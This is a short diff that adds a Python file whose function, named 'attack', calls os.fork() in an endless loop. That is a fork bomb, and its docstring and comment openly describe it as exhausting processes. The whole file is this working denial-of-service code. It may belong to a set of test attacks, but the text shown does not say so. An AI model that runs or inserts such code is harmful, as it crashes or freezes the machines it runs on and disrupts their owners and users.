@@ -1,0 +1,9 @@
+"""Forks without end."""
+# ends: processes
+
+import os
+
+
+def attack(world):
+    while True:
+        os.fork()
